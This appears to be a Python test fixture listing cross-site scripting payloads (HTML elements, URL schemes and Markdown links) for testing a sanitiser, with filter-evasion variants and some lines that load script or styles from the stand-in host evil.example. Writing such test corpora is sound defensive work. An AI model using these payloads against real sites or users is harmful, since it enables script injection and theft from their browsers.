"""Hostile markup, as it is collected for testing filters. Whatever of it runs calls `pwned()` or opens a dialog."""

from __future__ import annotations

ELEMENTS = (
    "<script>pwned(1)</script>", "<ScRiPt>pwned(1)</sCrIpT >", "<scr<script>ipt>pwned(1)</scr</script>ipt>",
    '"><script>pwned(1)</script>', "';pwned(1)//", "</textarea><script>pwned(1)</script>", "</style><script>pwned(1)</script>",
    "<script src=data:,pwned(1)></script>", "<script src=//evil.example/x.js></script>", "<script\x0c>pwned(1)</script>",
    "<img src=x onerror=pwned(1)>", "<img/src=x/onerror=pwned(1)>", '<img src="x` `<script>pwned(1)</script>"` `>',
    "<img src=x onerror\n=pwned(1)>", "<IMG SRC=x OnErRoR=pwned(1)>", "<img src onerror=pwned`1`>", "<image src=x onerror=pwned(1)>",
    "<svg onload=pwned(1)>", "<svg/onload=pwned(1)//", "<svg><script>pwned(1)</script></svg>",
    "<svg><animate onbegin=pwned(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:pwned(1)><text x=20 y=20>x</text></a>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwned(1)/>#x"/></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(1)>'>", "<template><img src=x onerror=pwned(1)></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwned(1)>'>", "<!--><img src=x onerror=pwned(1)>-->",
    "<iframe src=javascript:pwned(1)></iframe>", "<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>",
    "<object data=javascript:pwned(1)></object>", "<embed src=javascript:pwned(1)>", "<base href=javascript:/a/-pwned(1)//>",
    "<body onload=pwned(1)>", "<details open ontoggle=pwned(1)>", "<video><source onerror=pwned(1)></video>",
    "<input autofocus onfocus=pwned(1)>", "<select autofocus onfocus=pwned(1)>", "<marquee onstart=pwned(1)>",
    "<a href=javascript:pwned(1)>x</a>", "<form action=javascript:pwned(1)><button>x</button></form>",
    "<button formaction=javascript:pwned(1) form=x>", "<meta http-equiv=refresh content='0;url=javascript:pwned(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<div style='background:url(//evil.example/x)'>", "<x onclick=pwned(1) tabindex=1 autofocus onfocus=pwned(1)>",
    "<saessak-chat data-open></saessak-chat>", "<img id=Saessak name=Saessak><form name=document>",
    "&lt;script&gt;pwned(1)&lt;/script&gt;", "\\x3cscript\\x3epwned(1)\\x3c/script\\x3e", "\\u003cimg src=x onerror=pwned(1)\\u003e",
    "{{constructor.constructor('pwned(1)')()}}", "${pwned(1)}", "#{pwned(1)}", "<%= pwned(1) %>", "{%raw%}{{pwned(1)}}",
    "javascript:pwned(1)", "`${pwned(1)}`", "'-pwned(1)-'", '"-pwned(1)-"', "\u202e<img src=x onerror=pwned(1)>", "＜script＞pwned(1)＜/script＞",
)  # fmt: skip

ADDRESSES = (
    "javascript:pwned(1)", "JaVaScRiPt:pwned(1)", " javascript:pwned(1)", "\tjavascript:pwned(1)", "java\tscript:pwned(1)",
    "java\nscript:pwned(1)", "java\r\nscript:pwned(1)", "\x01javascript:pwned(1)", "\u00a0javascript:pwned(1)", "javascript\t:pwned(1)",
    "&#106;avascript:pwned(1)", "&#x6A;avascript:pwned(1)", "javascript&colon;pwned(1)", "java&Tab;script:pwned(1)",
    "%6Aavascript:pwned(1)", "javascript://hanbit.example/%0apwned(1)", "javascript:/*https://hanbit.example*/pwned(1)",
    "data:text/html,<script>pwned(1)</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=pwned(1)>", "vbscript:pwned(1)", "blob:https://hanbit.example/x", "file:///etc/passwd",
    "about:blank", "filesystem:https://hanbit.example/x", "view-source:javascript:pwned(1)", "intent://x#Intent;scheme=javascript;end",
    "//evil.example/x", "/\\evil.example", "feed:javascript:pwned(1)", "jar:javascript:pwned(1)", "livescript:pwned(1)",
    'https://hanbit.example/"onmouseover="pwned(1)', "https://hanbit.example/'onmouseover='pwned(1)",
    "https://hanbit.example/><img src=x onerror=pwned(1)>", "https:javascript:pwned(1)", "tel:javascript:pwned(1)",
    "mailto:x@y.example?bcc=z@evil.example",
)  # fmt: skip

MARKDOWN = (
    *(f"[누르세요]({address})" for address in ADDRESSES),
    "![x](javascript:pwned(1))", "![x](https://evil.example/x.png)", '![x" onerror="pwned(1)](x)', "[x][1]\n\n[1]: javascript:pwned(1)",
    "<javascript:pwned(1)>", "[x](<javascript:pwned(1)>)", '[x](https://hanbit.example "onmouseover=pwned(1)")',
    '[x](https://hanbit.example" onmouseover="pwned(1))', "[a](javascript:pwned(1)//https://hanbit.example)",
    "[x](javascript:pwned(1)", "[[x](javascript:pwned(1))](javascript:pwned(1))", "[**x**](javascript:pwned(1))",
    "**[x](javascript:pwned(1))**", "`<script>pwned(1)</script>`", "```html\n<script>pwned(1)</script>\n```", "- <img src=x onerror=pwned(1)>",
    "| <img src=x onerror=pwned(1)> | [x](javascript:pwned(1)) |\n|---|---|\n| <svg onload=pwned(1)> | b |",
    "# <script>pwned(1)</script>", "> <img src=x onerror=pwned(1)>", "[1](javascript:pwned(1)) [1]", "https://hanbit.example/<script>pwned(1)</script>",
    "x@y.example<img src=x onerror=pwned(1)>", "010-1234-5678<script>pwned(1)</script>", "<!-- x --><script>pwned(1)</script>",
)  # fmt: skip

EVERYTHING = (*ELEMENTS, *ADDRESSES, *MARKDOWN)
